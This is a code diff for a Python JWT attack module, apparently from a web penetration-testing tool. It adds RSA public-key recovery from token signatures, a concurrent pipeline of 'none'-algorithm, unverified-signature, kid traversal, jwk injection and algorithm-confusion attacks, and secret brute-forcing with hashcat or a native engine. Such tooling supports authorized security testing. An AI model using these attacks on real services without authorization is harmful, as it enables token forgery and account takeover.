+    def recover_modulus(e, pairs):
+        # Runs in a worker process. s^e - m is a multiple of n for every signature s
+        # of message m, so n divides the GCD of all of them
+        to_int = gmpy2.mpz if gmpy2 is not None else int
+        gcd = gmpy2.gcd if gmpy2 is not None else math.gcd
+        result = 0
+        for signature, message in pairs:
+            result = gcd(result, to_int(signature) ** e - to_int(message))
+        result = int(result)
+
+        # The GCD usually carries a few small factors besides n
+        for factor in range(2, 1 << 16):
+            while result > factor and result % factor == 0:
+                result //= factor
+        return result
+
+    def iter_recover(self, tokens, cancel_event=None):
+        # Generator: yields progress output and finally one result with done=True
+        pairs_by_length = OrderedDict()
+        for i, token in enumerate(tokens, 1):
+            try:
+                algorithm, signing_input, signature = self.parse_token(token.strip())
+            except Exception as e:
+                yield {"output": f"Skipping token #{i}: {str(e)}\n", "done": False}
+                continue
+            length = len(signature)
+            pairs_by_length.setdefault(length, []).append((
+                int.from_bytes(signature, byteorder='big'),
+                self.encode_message(algorithm, signing_input, length)
+            ))
+
+        candidates = [(length, pairs) for length, pairs in pairs_by_length.items() if len(pairs) >= 2]
+        if not candidates:
+            yield {
+                "success": False,
+                "error": "At least two RS256/RS384/RS512 tokens with the same key size are needed",
+                "done": True
+            }
+            return
+        if gmpy2 is None:
+            yield {"output": "gmpy2 is not installed, recovery with e=65537 can take hours\n", "done": False}
+
+        context = multiprocessing.get_context(self.start_method)
+        pool = context.Pool(1)
+        try:
+            for length, pairs in candidates:
+                for e in self.exponents:
+                    start = time.time()
+                    yield {"output": f"Trying {length * 8}-bit key with e={e} over {len(pairs)} signatures\n", "done": False}
+                    pending = pool.apply_async(RSAKeyRecovery.recover_modulus, (e, pairs))
+                    while True:
+                        try:
+                            n = pending.get(self.poll_interval)
+                            break
+                        except multiprocessing.TimeoutError:
+                            if cancel_event is not None and cancel_event.is_set():
+                                return
+                            yield {"output": f"Still working ({time.time() - start:.0f}s)\n", "done": False}
+
+                    # The modulus is the length of the signatures and must verify all of them
+                    if n.bit_length() <= (length - 1) * 8 or n.bit_length() > length * 8:
+                        yield {"output": f"No {length * 8}-bit modulus for e={e}\n", "done": False}
+                        continue
+                    if not all(pow(signature, e, n) == message for signature, message in pairs):
+                        yield {"output": f"Modulus for e={e} does not verify every signature\n", "done": False}
+                        continue
+
+                    yield {
+                        "success": True,
+                        "n": str(n),
+                        "e": e,
+                        "key_size": n.bit_length(),
+                        "public_key": rsa.RSAPublicNumbers(e, n).public_key(default_backend()),
+                        "elapsed": round(time.time() - start, 3),
+                        "done": True
+                    }
+                    return
+
+            yield {
+                "success": False,
+                "error": "No RSA modulus could be recovered from these tokens",
+                "done": True
+            }
+        finally:
+            # Stops a GCD still running after a cancel
+            pool.terminate()
 
 class JWTAttacks:
-    def __init__(self, http_request_tool):
+    # Three segments like a JWT, but neither header nor payload decode to JSON
+    REJECTION_TOKEN = 'invalid.invalid.invalid'
+
+    def __init__(self, http_request_tool, variant_concurrency=4):
         self.http_request_tool = http_request_tool
+        self.variant_concurrency = variant_concurrency
+
+    @staticmethod
+    @functools.lru_cache(maxsize=256)
+    def decode_cached(token):
+        return jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})
+
+    def decode_unverified(self, token):
+        # Every attack on a token shares one decode, callers get their own copy to modify
+        header, payload = self.decode_cached(token)
+        return copy.deepcopy(header), copy.deepcopy(payload)
+
+    def parse_template(self, request_text):
+        return request_text if isinstance(request_text, ParsedRequest) else ParsedRequest.parse(request_text)
+
+    def get_status_code(self, response):
+        try:
+            return int(response["response"].split('\n')[0].split()[1])
+        except (KeyError, IndexError, ValueError):
+            return 0
+
+    def get_fingerprint(self, response):
+        fingerprint = response.get("fingerprint")
+        if fingerprint is None:
+            # Results that carry no fingerprint are fingerprinted from their text
+            text = response.get("response", "")
+            separator = '\r\n\r\n' if '\r\n\r\n' in text else '\n\n'
+            body = text.partition(separator)[2]
+            fingerprint = self.http_request_tool.fingerprinter.fingerprint(self.get_status_code(response), body)
+        return fingerprint
+
+    def get_rejection_baseline(self, token, template, use_proxy=False, proxy_address=None, verify=True):
+        # What the target answers for a token it cannot even parse, taken once per
+        # endpoint and shared by every attack on it. Only the signature of the real
+        # token must not be broken, a target that skips verification would accept it
+        # and every bypass would look like the baseline
+        try:
+            key = ("jwt_rejection", template.method, template.get_url())
+        except ValueError:
+            return None
+
+        def take():
+            response = self.http_request_tool.process_request(
+                template.with_token(token, self.REJECTION_TOKEN),
+                use_proxy=use_proxy,
+                proxy_address=proxy_address,
+                verify=verify,
+                rate_limit=True
+            )
+            if "error" in response:
+                return None
+            return [self.get_fingerprint(response)]
+
+        return self.http_request_tool.fingerprinter.get_baseline(key, take)
+
+    def is_rejected(self, response, baseline):
+        # A response that looks like the one for a broken signature is a rejection
+        # whatever its status code, e.g. a login page served with 200
+        return self.http_request_tool.fingerprinter.matches(self.get_fingerprint(response), baseline)
+
+    def cluster_responses(self, results):
+        # Only the first result with a given body keeps the response text, the
+        # others point at its cluster
+        clusters = ResponseClusters(self.http_request_tool.fingerprinter)
+        for result in results:
+            if "response" not in result:
+                continue
+            cluster_id, new = clusters.add(self.get_fingerprint(result))
+            result["cluster"] = cluster_id
+            if not new:
+                del result["response"]
+        return results
+
+    def iter_attack_pipeline(self, token, request_text, use_proxy=False, proxy_address=None, verify=True, use_cache=False, wordlist='jwt', brute_force_timeout=30, cancel_event=None):
+        # Runs every attack on one token as concurrent stages and yields each verdict
+        # as it finishes. The token is decoded and the request parsed once up front, the
+        # unmodified request is sent once as the baseline, and all stages share the
+        # connection pool
+        start = time.time()
+        try:
+            header, payload = self.decode_unverified(token)
+        except Exception as e:
+            yield {"stage": "decode", "error": f"Invalid JWT token: {str(e)}", "done": True}
+            return
+        yield {"stage": "decode", "header": header, "payload": payload}
+
+        try:
+            template = self.parse_template(request_text)
+        except ValueError as e:
+            yield {"stage": "parse", "error": str(e), "done": True}
+            return
+
+        cancel_event = cancel_event or threading.Event()
+        request_args = (token, template, use_proxy, proxy_address, verify, use_cache)
+        stages = OrderedDict([
+            ("baseline", lambda: self.send_baseline(template, use_proxy, proxy_address, verify, use_cache)),
+            ("unverified_sig", lambda: self.unverified_signature_attack(*request_args)),
+            ("none_sig", lambda: self.none_signature_attack(*request_args)),
+            ("kid_traversal", lambda: self.kid_header_traversal(*request_args)),
+            ("jwk_injection", lambda: self.jwk_header_injection(token)),
+            ("algorithm_confusion", lambda: self.algorithm_confusion(token)),
+            ("brute_force", lambda: self.bounded_brute_force(token, wordlist, brute_force_timeout, cancel_event))
+        ])
+
+        try:
+            for stage, result, error in self.http_request_tool.scan_engine.run(
+                lambda stage: stages[stage](),
+                list(stages),
+                concurrency=len(stages)
+            ):
+                if error is not None:
+                    result = {"error": str(error)}
+                yield {
+                    "stage": stage,
+                    "success": bool(result.get("success")),
+                    "elapsed": round(time.time() - start, 3),
+                    "result": result
+                }
+        finally:
+            # Stops the brute force if the client went away
+            cancel_event.set()
+
+        yield {"stage": "pipeline", "elapsed": round(time.time() - start, 3), "done": True}
+
+    def send_baseline(self, request_text, use_proxy=False, proxy_address=None, verify=True, use_cache=False):
+        response = self.http_request_tool.process_request(
+            request_text,
+            use_proxy=use_proxy,
+            proxy_address=proxy_address,
+            verify=verify,
+            rate_limit=True,
+            use_cache=use_cache
+        )
+        if "error" in response:
+            return {"success": False, "error": response["error"]}
+        status_code = self.get_status_code(response)
+        return {
+            "success": status_code in [200, 302],
+            "status_code": status_code,
+            "response": response.get("response", "")
+        }
+
+    def bounded_brute_force(self, token, wordlist='jwt', timeout=30, cancel_event=None):
+        # Native engine only, a hashcat run cannot be stopped part way through
+        deadline = time.time() + timeout
+        events = self.iter_brute_force_secret(token, wordlist, engine='native')
+        try:
+            for event in events:
+                if event.get("done"):
+                    return event
+                if time.time() >= deadline or (cancel_event is not None and cancel_event.is_set()):
+                    return {
+                        "success": False,
+                        "error": "Brute force stopped",
+                        "details": f"No secret found within {timeout} seconds",
+                        "output": [],
+                        "done": True
+                    }
+        finally:
+            # Closing the generator shuts down the cracking workers
+            events.close()
+
+    def run_variants(self, variants, attempt, concurrency=None):
+        # Sends attack variants concurrently but reports them like a serial loop that
+        # stops at the first success: results in variant order, up to and including
+        # the lowest successful variant. Variants after it are never sent, and any
+        # still in flight are ignored once every earlier variant has answered
+        state = {"first_success": None}
+        results = {}
+        items = itertools.takewhile(
+            lambda item: state["first_success"] is None or item[0] < state["first_success"],
+            enumerate(variants)
+        )
+
+        for (index, variant), result, error in self.http_request_tool.scan_engine.run(
+            lambda item: attempt(item[1]),
+            items,
+            concurrency=concurrency or self.variant_concurrency
+        ):
+            results[index] = error if error is not None else result
+            if error is None and result.get("success"):
+                if state["first_success"] is None or index < state["first_success"]:
+                    state["first_success"] = index
+            first_success = state["first_success"]
+            if first_success is not None and all(i in results for i in range(first_success + 1)):
+                break
+
+        last = state["first_success"] if state["first_success"] is not None else len(variants) - 1
+        ordered = [results[i] for i in range(last + 1)]
+        # An error the serial loop would have hit ends the attack the same way
+        for result in ordered:
+            if isinstance(result, Exception):
+                raise result
+        return ordered
 
     def is_jwt(self, token):
+        return self.validate_jwt(token)
+
+    @staticmethod
+    @functools.lru_cache(maxsize=4096)
+    def validate_jwt(token):
+        # Memoized, the same token usually shows up in many requests and responses
         # Split the token into parts
         parts = token.split('.')
 
@@ -348,11 +3295,11 @@ class JWTAttacks:
                     padding = 4 - (len(part) % 4)
                     if padding != 4:
                         part += '=' * padding
-                    decoded = base64.b64decode(part)
+                    decoded = base64.urlsafe_b64decode(part)
                     # Try to parse as JSON to verify structure
                     json.loads(decoded)
             return True
-        except:
+        except Exception:
             return False
 
     def decode_jwt(self, token):
@@ -391,6 +3338,106 @@ class JWTAttacks:
         except Exception as e:
             return f"Error decoding JWT: {str(e)}"
 
+    @staticmethod
+    def decode_segment(segment):
+        return json.loads(base64.urlsafe_b64decode(segment + '=' * (-len(segment) % 4)))
+
+    def get_key_group(self, header, claims):
+        # Tokens signed by the same key share a kid, an embedded key or certificate
+        # thumbprint. Without any of those, issuer and algorithm are the best guess
+        if header.get('kid') is not None:
+            return f"kid:{header['kid']}"
+        if isinstance(header.get('jwk'), dict):
+            jwk = header['jwk']
+            material = json.dumps({k: jwk.get(k) for k in ('kty', 'crv', 'n', 'e', 'x', 'y')}, sort_keys=True)
+            return f"jwk:{hashlib.sha256(material.encode('utf-8')).hexdigest()[:16]}"
+        for name in ('x5t#S256', 'x5t', 'jku', 'x5u'):
+            if header.get(name):
+                return f"{name}:{header[name]}"
+        return f"iss:{claims.get('iss', '')}|alg:{header.get('alg', '')}"
+
+    def decode_structured(self, token, now=None):
+        now = time.time() if now is None else now
+        parts = token.split('.')
+        if len(parts) < 2:
+            return {"token": token, "valid": False, "error": "Invalid JWT format"}
+        try:
+            header = self.decode_segment(parts[0])
+            claims = self.decode_segment(parts[1]) if parts[1] else {}
+        except (ValueError, TypeError) as e:
+            return {"token": token, "valid": False, "error": f"Error decoding JWT: {str(e)}"}
+        if not isinstance(header, dict) or not isinstance(claims, dict):
+            return {"token": token, "valid": False, "error": "Header and payload must be JSON objects"}
+
+        def timestamp(name):
+            value = claims.get(name)
+            return value if isinstance(value, (int, float)) and not isinstance(value, bool) else None
+
+        expires_at = timestamp('exp')
+        signature = parts[2] if len(parts) > 2 else ''
+        return {
+            "token": token,
+            "valid": True,
+            "header": header,
+            "claims": claims,
+            "algorithm": header.get('alg'),
+            "kid": header.get('kid'),
+            "issuer": claims.get('iss'),
+            "subject": claims.get('sub'),
+            "audience": claims.get('aud'),
+            "issued_at": timestamp('iat'),
+            "not_before": timestamp('nbf'),
+            "expires_at": expires_at,
+            "expired": expires_at is not None and expires_at <= now,
+            "expires_in": round(expires_at - now) if expires_at is not None else None,
+            "signed": bool(signature),
+            "key_group": self.get_key_group(header, claims)
+        }
+
+    def decode_jwt_batch(self, tokens):
+        # Each distinct token is decoded once, results are grouped by signing key
+        now = time.time()
+        counts = OrderedDict()
+        for token in tokens:
+            if isinstance(token, str) and token.strip():
+                token = token.strip()
+                counts[token] = counts.get(token, 0) + 1
+
+        groups = OrderedDict()
+        invalid = []
+        for token, count in counts.items():
+            decoded = self.decode_structured(token, now)
+            decoded["count"] = count
+            if not decoded["valid"]:
+                invalid.append(decoded)
+                continue
+            group = groups.get(decoded["key_group"])
+            if group is None:
+                group = groups[decoded["key_group"]] = {
+                    "key_group": decoded["key_group"],
+                    "kid": decoded["kid"],
+                    "algorithms": [],
+                    "issuers": [],
+                    "count": 0,
+                    "expired": 0,
+                    "tokens": []
+                }
+            if decoded["algorithm"] not in group["algorithms"]:
+                group["algorithms"].append(decoded["algorithm"])
+            if decoded["issuer"] is not None and decoded["issuer"] not in group["issuers"]:
+                group["issuers"].append(decoded["issuer"])
+            group["count"] += count
+            group["expired"] += count if decoded["expired"] else 0
+            group["tokens"].append(decoded)
+
+        return {
+            "total": sum(counts.values()),
+            "unique": len(counts),
+            "invalid": len(invalid),
+            "groups": sorted(groups.values(), key=lambda group: group["count"], reverse=True),
+            "invalid_tokens": invalid
+        }
+
     def encode_jwt(self, header, payload, signature=None):
         try:
             # Encode header and payload as JSON with no extra whitespace
@@ -426,69 +3473,54 @@ class JWTAttacks:
         except Exception as e:
             return f"Error encoding JWT: {str(e)}"
 
+    # A JWT header is a JSON object, so its base64url encoding starts with "eyJ" ('{"')
+    JWT_PATTERN = re.compile(r'eyJ[A-Za-z0-9_=-]*\.[A-Za-z0-9_=-]+(?:\.[A-Za-z0-9_=-]+)?')
+    TOKEN_CHARS = frozenset('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')
+
     def find_jwt(self, request_text):
-        # Split request into words and check each for JWT pattern
-        tokens = []
+        # One pass of a compiled pattern over the whole text. Tokens on header lines
+        # (lines with a ':') are listed before the rest, as the per-line scan did
+        if isinstance(request_text, ParsedRequest):
+            request_text = request_text.text
+        header_tokens = []
+        other_tokens = []
         seen_tokens = set()  # Track seen tokens to avoid duplicates
+        line_start = line_end = -1
+        is_header_line = False
 
-        # Find all potential JWT patterns in the text
-        jwt_pattern = r'(?:Bearer\s+)?([A-Za-z0-9-_=]+\.[A-Za-z0-9-_=]+(?:\.[A-Za-z0-9-_=]+)?)'
-
-        # Look for JWTs in headers and cookies
-        for line in request_text.split('\n'):
-            # Check for Authorization header
-            if 'Authorization:' in line:
-                matches = re.findall(jwt_pattern, line)
-                for token in matches:
-                    if token not in seen_tokens and self.is_jwt(token):
-                        tokens.append(token)
-                        seen_tokens.add(token)
-
-            # Check for Cookie header
-            if 'Cookie:' in line:
-                # Extract all cookie values
-                cookie_pairs = line.split(':', 1)[1].strip().split(';')
-                for pair in cookie_pairs:
-                    if '=' in pair:
-                        cookie_name, cookie_value = pair.strip().split('=', 1)
-                        if cookie_value:
-                            matches = re.findall(jwt_pattern, cookie_value)
-                            for token in matches:
-                                if token not in seen_tokens and self.is_jwt(token):
-                                    tokens.append(token)
-                                    seen_tokens.add(token)
-                    else:
-                        # Handle case where cookie value might be a JWT
-                        cookie_value = pair.strip()
-                        matches = re.findall(jwt_pattern, cookie_value)
-                        for token in matches:
-                            if token not in seen_tokens and self.is_jwt(token):
-                                tokens.append(token)
-                                seen_tokens.add(token)
-
-            # Check for other potential JWT-containing headers
-            if ':' in line:
-                header_value = line.split(':', 1)[1].strip()
-                matches = re.findall(jwt_pattern, header_value)
-                for token in matches:
-                    if token not in seen_tokens and self.is_jwt(token):
-                        tokens.append(token)
-                        seen_tokens.add(token)
-
-        # Also check the entire text for any JWTs we might have missed
-        all_matches = re.findall(jwt_pattern, request_text)
-        for token in all_matches:
-            if token not in seen_tokens and self.is_jwt(token):
-                tokens.append(token)
-                seen_tokens.add(token)
-
-        return tokens
-
-    def unverified_signature_attack(self, token, request_text, use_proxy=False, proxy_address=None, verify=True):
+        for match in self.JWT_PATTERN.finditer(request_text):
+            position = match.start()
+            # "eyJ" in the middle of a longer word is not the start of a token. Checked
+            # here, a lookbehind in the pattern makes the regex scan 20x slower
+            if position and request_text[position - 1] in self.TOKEN_CHARS:
+                continue
+            token = match.group()
+            if token in seen_tokens:
+                continue
+
+            # Cheap structural checks before decoding: no base64 segment is 1 mod 4 long
+            header, payload = token.split('.', 2)[:2]
+            if len(header.rstrip('=')) % 4 == 1 or len(payload.rstrip('=')) % 4 == 1:
+                continue
+            if not self.is_jwt(token):
+                continue
+            seen_tokens.add(token)
+
+            # The line is only looked up once per line that holds a token
+            if not line_start <= position < line_end:
+                line_start = request_text.rfind('\n', 0, position) + 1
+                line_end = request_text.find('\n', position)
+                if line_end == -1:
+                    line_end = len(request_text)
+                is_header_line = request_text.find(':', line_start, line_end) != -1
+            (header_tokens if is_header_line else other_tokens).append(token)
+
+        return header_tokens + other_tokens
+
+    def unverified_signature_attack(self, token, request_text, use_proxy=False, proxy_address=None, verify=True, use_cache=False):
         try:
             # Decode the JWT without verification
-            header = jwt.get_unverified_header(token)
-            payload = jwt.decode(token, options={"verify_signature": False})
+            header, payload = self.decode_unverified(token)
 
             # Modify a value in the payload
             if 'sub' in payload:
@@ -501,15 +3533,19 @@ class JWTAttacks:
             # Create a new token with the modified payload
             modified_token = jwt.encode(payload, "", algorithm="none")
 
-            # Replace the original token in the request
-            modified_request = request_text.replace(token, modified_token)
+            # Replace the original token in the parsed request
+            template = self.parse_template(request_text)
+            modified_request = template.with_token(token, modified_token)
+            baseline = self.get_rejection_baseline(token, template, use_proxy, proxy_address, verify)
 
             # Send the modified request
             response = self.http_request_tool.process_request(
                 modified_request,
                 use_proxy=use_proxy,
                 proxy_address=proxy_address,
-                verify=verify
+                verify=verify,
+                rate_limit=True,
+                use_cache=use_cache
             )
 
             # Get the response status code
@@ -522,7 +3558,7 @@ class JWTAttacks:
                     pass
 
             return {
-                "success": status_code < 400,
+                "success": status_code < 400 and not self.is_rejected(response, baseline),
                 "modified_token": modified_token,
                 "status_code": status_code,
                 "response": response.get("response", "")
@@ -531,21 +3567,23 @@ class JWTAttacks:
         except Exception as e:
             return {"error": f"Failed to perform unverified signature attack: {str(e)}"}
 
-    def none_signature_attack(self, token, request_text, use_proxy=False, proxy_address=None, verify=True):
+    def none_signature_attack(self, token, request_text, use_proxy=False, proxy_address=None, verify=True, use_cache=False):
         try:
             # Decode the JWT without verification
-            header = jwt.get_unverified_header(token)
-            payload = jwt.decode(token, options={"verify_signature": False})
+            header, payload = self.decode_unverified(token)
+
+            # Parsed once, every variation substitutes its token into it
+            template = self.parse_template(request_text)
+            baseline = self.get_rejection_baseline(token, template, use_proxy, proxy_address, verify)
 
             # Try different variations of "none"
             none_variations = ["none", "None", "NONE", "nOnE"]
-            results = []
             success = False
             successful_variation = None
             successful_token = None
             successful_response = None
 
-            for variation in none_variations:
+            def attempt(variation):
                 try:
                     # Create a new header with the current variation
                     new_header = header.copy()
@@ -555,15 +3593,17 @@ class JWTAttacks:
                     # This gives us full control over the header values
                     modified_token = self.encode_jwt(new_header, payload)
 
-                    # Replace the original token in the request
-                    modified_request = request_text.replace(token, modified_token)
+                    # Replace the original token in the parsed request
+                    modified_request = template.with_token(token, modified_token)
 
                     # Send the modified request
                     response = self.http_request_tool.process_request(
                         modified_request,
                         use_proxy=use_proxy,
                         proxy_address=proxy_address,
-                        verify=verify
+                        verify=verify,
+                        rate_limit=True,
+                        use_cache=use_cache
                     )
 
                     # Get the response status code
@@ -575,32 +3615,32 @@ class JWTAttacks:
                         except (IndexError, ValueError):
                             pass
 
-                    # Add result for this variation
-                    result = {
+                    # Result for this variation
+                    return {
                         "variation": variation,
                         "token": modified_token,
                         "header": new_header,
                         "status_code": status_code,
-                        "success": status_code in [200, 302],
-                        "response": response.get("response", "")
+                        "success": status_code in [200, 302] and not self.is_rejected(response, baseline),
+                        "response": response.get("response", ""),
+                        "fingerprint": self.get_fingerprint(response)
                     }
-                    results.append(result)
-
-                    # If we get a success response (200 or 302), keep this variation
-                    if status_code in [200, 302]:
-                        success = True
-                        successful_variation = variation
-                        successful_token = modified_token
-                        successful_response = response.get("response", "")
-                        break  # Stop after first successful attempt
                 except Exception as e:
-                    # If this variation fails, log it and continue to the next one
-                    results.append({
+                    # If this variation fails, log it and continue with the others
+                    return {
                         "variation": variation,
                         "error": str(e),
                         "success": False
-                    })
-                    continue
+                    }
+
+            # Variations are sent concurrently, results stop after the first success
+            results = self.run_variants(none_variations, attempt)
+            if results[-1]["success"]:
+                success = True
+                successful_variation = results[-1]["variation"]
+                successful_token = results[-1]["token"]
+                successful_response = results[-1]["response"]
+            self.cluster_responses(results)
 
             if success:
                 return {
@@ -621,40 +3661,235 @@ class JWTAttacks:
         except Exception as e:
             return {"error": f"Failed to perform none signature attack: {str(e)}"}
 
-    def brute_force_secret(self, token):
+    def brute_force_secret(self, token, wordlist='jwt', engine='auto'):
+        result = None
+        for event in self.iter_brute_force_secret(token, wordlist, engine):
+            if event.get("done"):
+                result = event
+        return result
+
+    def iter_brute_force_secret(self, token, wordlist='jwt', engine='auto'):
         try:
             # Validate token format
             if not token or '.' not in token:
-                return {
+                yield {
                     "success": False,
                     "error": "Invalid JWT token format",
                     "details": "The token must be a valid JWT with at least two parts separated by dots",
-                    "output": []
+                    "output": [],
+                    "done": True
                 }
+                return
 
-            # Save token to temp file for hashcat
-            temp_file = 'token.txt'
-            with open(temp_file, 'w') as f:
-                f.write(token)
+            # Secrets cracked before are tried ahead of any wordlist, the same token
+            # is answered by a single indexed lookup
+            known = self.try_known_secrets(token)
+            if known is not None:
+                if known["success"]:
+                    yield known
+                    return
+                yield {"output": known["store_error"] + '\n', "done": False}
 
             # Verify wordlist exists and has content
-            wordlist_path = 'jwt_secrets/jwt.secrets.list'
+            try:
+                wordlist_path, _ = self.http_request_tool.wordlists.get_path(wordlist)
+            except KeyError as e:
+                yield {
+                    "success": False,
+                    "error": "Wordlist not found",
+                    "details": str(e),
+                    "output": [],
+                    "done": True
+                }
+                return
             if not os.path.exists(wordlist_path):
-                return {
+                yield {
                     "success": False,
                     "error": "Wordlist not found",
                     "details": f"Wordlist file not found at {wordlist_path}",
-                    "output": []
+                    "output": [],
+                    "done": True
                 }
+                return
 
             wordlist_size = os.path.getsize(wordlist_path)
             if wordlist_size == 0:
-                return {
+                yield {
                     "success": False,
                     "error": "Empty wordlist",
                     "details": "The wordlist file is empty",
-                    "output": []
+                    "output": [],
+                    "done": True
                 }
+                return
+
+            # Prefer hashcat when it is installed, otherwise (or if it fails to run)
+            # crack in-process on every core
+            hashcat_output = []
+            if engine == 'hashcat' or (engine == 'auto' and shutil.which('hashcat')):
+                result = self.run_hashcat(token, wordlist_path, wordlist_size)
+                if result is not None:
+                    if result["success"]:
+                        store_error = self.record_secret(token, result["secret"])
+                        if store_error:
+                            result["store_error"] = store_error
+                    yield dict(result, engine="hashcat", done=True)
+                    return
+                hashcat_output = ["hashcat failed to run, falling back to the native engine"]
+                yield {"output": hashcat_output[0] + '\n', "done": False}
+
+            mapped = self.http_request_tool.wordlists.open(wordlist)["wordlist"]
+            for event in self.http_request_tool.jwt_cracker.crack(token, mapped):
+                if event.get("done"):
+                    event["output"] = hashcat_output + event["output"]
+                    if event["success"]:
+                        store_error = self.record_secret(token, event["secret"])
+                        if store_error:
+                            event["store_error"] = store_error
+                yield event
+
+        except Exception as e:
+            yield {
+                "success": False,
+                "error": f"Failed to perform brute force attack: {str(e)}",
+                "details": str(e),
+                "output": [],
+                "done": True
+            }
+
+    def iter_brute_force_batch(self, tokens, wordlist='jwt'):
+        # Cracks many tokens in one pass over the wordlist with the native engine,
+        # every cracked token is reported as it is found
+        try:
+            # Each distinct token keeps the position of its first copy in the
+            # submitted list, which is how it is numbered in every event
+            positions = OrderedDict()
+            for index, token in enumerate(tokens):
+                if isinstance(token, str) and token.strip():
+                    positions.setdefault(token.strip(), index)
+            tokens = list(positions)
+            if not tokens:
+                yield {"success": False, "error": "No tokens provided", "output": [], "done": True}
+                return
+
+            # Tokens whose secret is already known never reach the wordlist
+            results = {}
+            for token in tokens:
+                known = self.try_known_secrets(token)
+                if known is not None and known["success"]:
+                    results[token] = {
+                        "token": token,
+                        "success": True,
+                        "secret": known["secret"],
+                        "algorithm": known["algorithm"],
+                        "engine": "potfile"
+                    }
+                    yield {
+                        "found": dict(results[token], index=positions[token]),
+                        "output": f"Token #{positions[token] + 1} uses a known secret: {known['secret']}\n",
+                        "done": False
+                    }
+                elif known is not None:
+                    yield {"output": known["store_error"] + '\n', "done": False}
+
+            remaining = [token for token in tokens if token not in results]
+            final = {"output": [], "engine": "native"}
+            if remaining:
+                try:
+                    mapped = self.http_request_tool.wordlists.open(wordlist)["wordlist"]
+                except (KeyError, OSError) as e:
+                    yield {"success": False, "error": "Wordlist not found", "details": str(e), "output": [], "done": True}
+                    return
+
+                for event in self.http_request_tool.jwt_cracker.crack_many(remaining, mapped):
+                    if event.get("done"):
+                        final = event
+                        continue
+                    if event.get("found"):
+                        # Numbered by position in the submitted list, not in the remaining ones
+                        found = event["found"]
+                        found["index"] = positions[found["token"]]
+                        event["output"] = f"Cracked token #{found['index'] + 1}: {found['secret']}\n"
+                        store_error = self.record_secret(found["token"], found["secret"])
+                        if store_error:
+                            found["store_error"] = store_error
+                    yield event
+                for result in final.get("results", []):
+                    results[result["token"]] = result
+
+            cracked = sum(1 for result in results.values() if result["success"])
+            yield dict(
+                final,
+                success=cracked > 0,
+                cracked=cracked,
+                results=[results[token] for token in tokens],
+                done=True
+            )
+
+        except Exception as e:
+            yield {
+                "success": False,
+                "error": f"Failed to perform batch brute force attack: {str(e)}",
+                "details": str(e),
+                "output": [],
+                "done": True
+            }
+
+    def try_known_secrets(self, token):
+        try:
+            algorithm, signing_input, signature = JWTCracker.parse_token(token)
+        except Exception:
+            return None
+
+        store = self.http_request_tool.secret_store
+        issuer = JWTCracker.get_issuer(token)
+        sources = (
+            ("Token was cracked before", lambda: store.lookup(signing_input)),
+            (f"Known secret for issuer '{issuer}'", lambda: store.issuer_secrets(issuer))
+        )
+        try:
+            for description, load in sources:
+                candidates = load()
+                index, _ = JWTCracker.crack_chunk(algorithm, signing_input, signature, candidates)
+                if index is not None:
+                    secret = candidates[index]
+                    store.record(signing_input, algorithm, issuer, secret)
+                    secret = secret.decode('utf-8', errors='surrogateescape')
+                    return {
+                        "success": True,
+                        "secret": secret,
+                        "algorithm": algorithm,
+                        "engine": "potfile",
+                        "details": f"Found matching secret key: {secret}",
+                        "output": [description],
+                        "done": True
+                    }
+        except (sqlite3.Error, OSError) as e:
+            # A broken store must not stop the wordlist attack, the caller reports it
+            return {"success": False, "store_error": f"Failed to read cracked secrets: {str(e)}"}
+        return None
+
+    def record_secret(self, token, secret):
+        # Returns an error message when the secret could not be stored, None otherwise
+        try:
+            algorithm, signing_input, _ = JWTCracker.parse_token(token)
+            self.http_request_tool.secret_store.record(
+                signing_input,
+                algorithm,
+                JWTCracker.get_issuer(token),
+                secret.encode('utf-8', errors='surrogateescape')
+            )
+        except (ValueError, sqlite3.Error, OSError) as e:
+            return f"Failed to record cracked secret: {str(e)}"
+        return None
+
+    def run_hashcat(self, token, wordlist_path, wordlist_size):
+        # Returns None when hashcat could not run at all so the caller can fall back
+        # Save token to a file in a directory of its own, concurrent runs never share it
+        with tempfile.TemporaryDirectory(prefix='hashcat-') as temp_dir:
+            temp_file = os.path.join(temp_dir, 'token.txt')
+            with open(temp_file, 'w') as f:
+                f.write(token)
 
             # Run hashcat with jwt.secrets.list wordlist
             cmd = [
@@ -676,90 +3911,77 @@ class JWTAttacks:
                 f"Command: {' '.join(cmd)}"
             ]
 
-            process = subprocess.run(cmd, capture_output=True, text=True)
-
-            # Clean up temp file
-            if os.path.exists(temp_file):
-                os.remove(temp_file)
+            try:
+                process = subprocess.run(cmd, capture_output=True, text=True, cwd=temp_dir)
+            except OSError:
+                return None
 
-            # Check if hashcat found a match
-            if process.returncode == 0 or 'Cracked' in process.stdout:
-                # Parse hashcat output to get cracked secret
-                for line in process.stdout.split('\n'):
-                    if ':' in line and not line.startswith('#'):
-                        secret = line.split(':')[-1].strip()
-                        return {
-                            "success": True,
-                            "secret": secret,
-                            "details": f"Found matching secret key: {secret}",
-                            "output": debug_info + process.stdout.split('\n')
-                        }
+        # Check if hashcat found a match
+        if process.returncode == 0 or 'Cracked' in process.stdout:
+            # Parse hashcat output to get cracked secret
+            for line in process.stdout.split('\n'):
+                if ':' in line and not line.startswith('#'):
+                    secret = line.split(':')[-1].strip()
+                    return {
+                        "success": True,
+                        "secret": secret,
+                        "details": f"Found matching secret key: {secret}",
+                        "output": debug_info + process.stdout.split('\n')
+                    }
 
-            # If we get here, no secret was found
-            return {
-                "success": False,
-                "error": "No matching secret found in wordlist",
-                "details": "The secret key was not found in the provided wordlist. Please check if the wordlist contains the correct secret.",
-                "output": debug_info + process.stdout.split('\n') + process.stderr.split('\n')
-            }
+        # Exit code 1 means the wordlist was exhausted, anything else is a hashcat error
+        if process.returncode != 1:
+            return None
 
-        except Exception as e:
-            return {
-                "success": False,
-                "error": f"Failed to perform brute force attack: {str(e)}",
-                "details": str(e),
-                "output": []
-            }
+        # If we get here, no secret was found
+        return {
+            "success": False,
+            "error": "No matching secret found in wordlist",
+            "details": "The secret key was not found in the provided wordlist. Please check if the wordlist contains the correct secret.",
+            "output": debug_info + process.stdout.split('\n') + process.stderr.split('\n')
+        }
 
-    def jwk_header_injection(self, token):
+    def jwk_header_injection(self, token, key_type='RSA', key_size=None):
         try:
             # Decode the JWT without verification
-            header = jwt.get_unverified_header(token)
-            payload = jwt.decode(token, options={"verify_signature": False})
-
-            # Generate a new RSA key pair
-            private_key = rsa.generate_private_key(
-                public_exponent=65537,
-                key_size=2048,
-                backend=default_backend()
-            )
